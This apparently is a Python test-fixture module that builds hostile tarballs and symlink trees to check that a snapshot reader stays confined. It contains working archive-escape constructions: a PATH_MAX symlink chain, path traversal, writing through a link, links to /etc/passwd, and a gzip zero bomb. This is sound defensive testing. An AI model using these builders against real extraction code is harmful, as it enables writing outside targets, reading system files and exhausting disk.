"""Hostile snapshots, built by the tests themselves (issue 15 items 1, 2, 11).

Each builder returns the members of a tarball (or lays out a directory) that tries to make a
Root read or write outside the snapshot. The archive attacks follow the published classes:
CVE-2025-4517 (a chain of long names pushes ``os.path.realpath`` past PATH_MAX, after which it
stops following links while the kernel still does; python/cpython gh-135034 describes it),
CVE-2007-4559 (``../`` and absolute names), GNU tar's CVE-2025-45582 (a link member, then a file
member written through it), plus hard links, devices, FIFOs and decompression bombs.
"""

from __future__ import annotations

import gzip
import io
import os
import tarfile
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

STEPS = "abcdefghijklmnop"  # 16 nested links...
LONG = "d" * 254  # ...each to a directory with a 254-character name: 16 x 255 > PATH_MAX (4096)
LOOP = "l" * 254


@dataclass(frozen=True)
class Member:
    name: str
    kind: str = "file"  # file, dir, sym, hard, chr, fifo
    data: bytes = b""
    target: str = ""


def chain_members(through_links: bool = True) -> tuple[list[Member], str]:
    """The PATH_MAX chain: a directory ``LONG`` and a link ``a -> LONG``, then ``a/LONG`` and
    ``a/b -> LONG``, ... 16 deep (names stay short, their resolution passes 4096 characters), then
    a link at the bottom back to the top (``../`` x 16). Returns the members and the path of that
    link: a path through it, then ``..``, climbs out of wherever the snapshot was unpacked.
    ``through_links=False`` names the directories by their real paths (``LONG/LONG/...``)."""
    members, path, real = [], "", ""
    for step in STEPS:
        members.append(Member(f"{path if through_links else real}{LONG}", "dir"))
        members.append(Member(f"{path if through_links else real}{step}", "sym", target=LONG))
        path += f"{step}/"
        real += f"{LONG}/"
    bottom = f"{path if through_links else real}{LOOP}"
    members.append(Member(bottom, "sym", target="../" * len(STEPS)))
    return members, bottom


def snapshot_skeleton(hostname: str = "evil-node") -> list[Member]:
    """The least a snapshot needs to open: sys/, proc/, a hostname, one netdev."""
    return [
        Member("sys", "dir"),
        Member("sys/class/net/evil0/mtu", data=b"9000\n"),
        Member("sys/class/net/evil0/operstate", data=b"up\n"),
        Member("proc", "dir"),
        Member("proc/sys/kernel/hostname", data=f"{hostname}\n".encode()),
        Member("etc", "dir"),
    ]


def escape_members(outside: Path, tmp_depth: int) -> list[Member]:
    """The PATH_MAX chain aimed at ``outside`` (``tmp_depth``: directories between the filesystem
    root and where the old code unpacked), read and written through: a hostname, a cmdline and a
    netdev that are the outside canary; /etc/passwd and /sys that are the machine's own."""
    chain, bottom = chain_members()
    up = "/.." * (tmp_depth + 2)  # more than enough: .. stops at /
    out = f"{bottom}{up}{outside}"
    members = [m for m in snapshot_skeleton() if m.name != "proc/sys/kernel/hostname"] + chain
    members += [
        Member("x", "sym", target="."),  # x -> . : x/x/x/... looks inside, resolves anywhere
        Member("escape", "sym", target=out),
        Member("escape/pwned-by-archive", data=b"written outside\n"),  # extraction writes through the link
        Member("proc/sys/kernel/hostname", "sym", target=f"../../../x/x/{out}/canary"),
        Member("proc/cmdline", "sym", target=f"../{bottom}{up}{outside}/canary"),
        Member("etc/passwd", "sym", target=f"../x/{bottom}{up}/etc/passwd"),
        Member("sys/class/net/live", "sym", target=f"../../../{bottom}{up}/sys/class/net/lo"),
        Member("sys/bus", "sym", target=f"../{bottom}{up}/sys/bus"),
    ]
    return members


def write_tar(path: Path, members: Iterable[Member]) -> Path:
    """A .tar.gz holding exactly these members, in this order."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.mode = 0o755 if m.kind == "dir" else 0o644
            if m.kind == "dir":
                info.type = tarfile.DIRTYPE
            elif m.kind in ("sym", "hard"):
                info.type = tarfile.SYMTYPE if m.kind == "sym" else tarfile.LNKTYPE
                info.linkname = m.target
            elif m.kind in ("chr", "fifo"):
                info.type = tarfile.CHRTYPE if m.kind == "chr" else tarfile.FIFOTYPE
                info.devmajor, info.devminor = (1, 3) if m.kind == "chr" else (0, 0)
            info.size = len(m.data) if m.kind == "file" else 0
            tar.addfile(info, io.BytesIO(m.data) if m.kind == "file" else None)
    return path


def zero_bomb(path: Path, members: int, member_mib: int) -> Path:
    """``members`` files of ``member_mib`` MiB of zeros each, as a gzip of a few hundred bytes per
    MiB. Cheap to make: the tar stream is cut in pieces, each its own gzip member (RFC 1952
    allows a file of many), and the piece for 1 MiB of zeros is compressed once and repeated."""
    mib_of_zeros = gzip.compress(bytes(1 << 20), compresslevel=9)
    with open(path, "wb") as out:
        out.write(gzip.compress(_header("proc/cmdline", 0)))
        for i in range(members):
            out.write(gzip.compress(_header(f"sys/blob{i}", member_mib << 20)))
            for _ in range(member_mib):
                out.write(mib_of_zeros)
        out.write(gzip.compress(bytes(1024)))  # end of archive: two zero blocks
    return path


def _header(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.mode = size, 0o644
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def make_path_max_dir(root: Path, outside: Path) -> None:
    """The PATH_MAX chain as real links in a directory root (made through directory descriptors:
    the paths are longer than the kernel accepts whole), with links out through it."""
    chain, bottom = chain_members()
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for m in chain:
            if m.kind == "dir":
                os.mkdir(m.name, dir_fd=fd)
            else:
                os.symlink(m.target, m.name, dir_fd=fd)
    finally:
        os.close(fd)
    up = "/.." * (len(root.parts) + 2)
    (root / "proc/sys/kernel/hostname").unlink()
    (root / "proc/sys/kernel/hostname").symlink_to(f"../../../{bottom}{up}{outside}/canary")
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc/passwd").symlink_to(f"../{bottom}{up}/etc/passwd")
    (root / "sys/class/net/out").symlink_to("../../../../../../../../../../../../..")
    (root / "sys/class/net/abs").symlink_to(str(outside))
